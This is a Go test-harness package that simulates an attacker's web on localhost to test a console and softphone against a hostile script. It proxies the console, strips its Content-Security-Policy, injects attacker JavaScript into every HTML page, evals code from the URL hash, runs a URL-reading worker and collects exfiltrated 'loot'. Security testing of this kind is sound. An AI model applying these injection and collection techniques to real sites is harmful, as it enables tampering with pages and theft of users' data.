package hostile

import (
	"bytes"
	_ "embed"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"strconv"
	"strings"
	"sync"
)

//go:embed page.js
var pageScript string

// Web is what an attacker serves: the org with a script of theirs in it, and an origin of their own. Servers listen
// on this machine alone.
type Web struct {
	Org, Evil *httptest.Server

	mu     sync.Mutex
	names  *strings.Replacer
	script string
	loot   []string
}

// Names are the origins as the pages know them, and the address of the softphone's page.
type Names struct{ Org, Evil, Softphone string }

// ServeWeb puts the attacker's web in front of the simulated console at consoleURL. Close it when done. The
// console's own policy is left out: in a page where a hostile script runs, a policy was of no help.
func ServeWeb(consoleURL string) (*Web, error) {
	target, err := url.Parse(consoleURL)
	if err != nil {
		return nil, err
	}
	w := &Web{names: strings.NewReplacer()}
	proxy := &httputil.ReverseProxy{
		Rewrite: func(r *httputil.ProxyRequest) {
			r.SetURL(&url.URL{Scheme: target.Scheme, Host: target.Host})
			r.Out.Host = target.Host
			r.Out.Header.Del("Accept-Encoding")
			for _, name := range []string{"Origin", "Referer"} { // the console knows its own origin alone
				if value := r.In.Header.Get(name); value != "" {
					r.Out.Header.Set(name, target.Scheme+"://"+target.Host)
				}
			}
		},
		ModifyResponse: w.infect,
	}
	own := w.own()
	w.Org = httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/hostile/") {
			own.ServeHTTP(out, r)
			return
		}
		proxy.ServeHTTP(out, r)
	}))
	w.Evil = httptest.NewServer(own)
	return w, nil
}

// Set says which script runs in the org's page from now on, and forgets what was told.
func (w *Web) Set(names Names, script string) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.names = strings.NewReplacer("SOFTPHONE", names.Softphone, "EVIL", names.Evil, "ORG", names.Org)
	w.script = script
	w.loot = nil
}

// Told is what the attacker's pages sent home.
func (w *Web) Told() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return append([]string{}, w.loot...)
}

// Close ends both servers.
func (w *Web) Close() {
	w.Org.Close()
	w.Evil.Close()
}

// infect puts the script before every other of the org's page.
func (w *Web) infect(r *http.Response) error {
	r.Header.Del("Content-Security-Policy")
	if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/html") {
		return nil
	}
	page, err := io.ReadAll(r.Body)
	if err != nil {
		return err
	}
	_ = r.Body.Close()
	w.mu.Lock()
	script := w.names.Replace(pageScript + "\n;(() => {" + w.script + "\n})();")
	w.mu.Unlock()
	page = bytes.Replace(page, []byte("<head>"), []byte("<head><script>"+strings.ReplaceAll(script, "</", `<\/`)+"</script>"), 1)
	r.Body = io.NopCloser(bytes.NewReader(page))
	r.ContentLength = int64(len(page))
	r.Header.Set("Content-Length", strconv.Itoa(len(page)))
	return nil
}

const runPage = `<!doctype html><meta charset="utf-8"><title>other</title><body><script src="/hostile/page.js"></script>
<script>(0, eval)(decodeURIComponent(location.hash.slice(1)))</script>`

// own serves what is the attacker's, in the org and elsewhere.
func (w *Web) own() http.Handler {
	mux := http.NewServeMux()
	text := func(kind string, content func() string) http.HandlerFunc {
		return func(out http.ResponseWriter, _ *http.Request) {
			out.Header().Set("Content-Type", kind+"; charset=utf-8")
			out.Header().Set("Cache-Control", "no-store")
			fmt.Fprint(out, content())
		}
	}
	mux.HandleFunc("GET /hostile/run.html", text("text/html", func() string { return runPage }))
	mux.HandleFunc("GET /hostile/page.js", text("text/javascript", func() string {
		w.mu.Lock()
		defer w.mu.Unlock()
		return w.names.Replace(pageScript)
	}))
	mux.HandleFunc("GET /hostile/worker.js", text("text/javascript", func() string { return workerScript }))
	mux.HandleFunc("POST /hostile/loot", func(_ http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		w.mu.Lock()
		defer w.mu.Unlock()
		w.loot = append(w.loot, string(text))
	})
	return mux
}

// workerScript reads an address for whoever asks, as a worker, a shared worker or a service worker.
const workerScript = `
const read = async (url) => { try { return await (await fetch(url)).text(); } catch (error) { return 'no: ' + error.message; } };
self.onmessage = async (event) => (event.source ?? self).postMessage(await read(event.data));
self.onconnect = (event) => { const port = event.ports[0]; port.onmessage = async (asked) => port.postMessage(await read(asked.data)); };
self.oninstall = () => self.skipWaiting();
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onfetch = (event) => { if (event.request.url.includes('softphone.html')) event.respondWith(fetch(event.request)); };
`

// LoopbackName gives an address of this machine another name, which is another origin.
func LoopbackName(address string) string {
	u, err := url.Parse(address)
	if err != nil {
		return ""
	}
	_, port, _ := net.SplitHostPort(u.Host)
	return "http://localhost:" + port
}
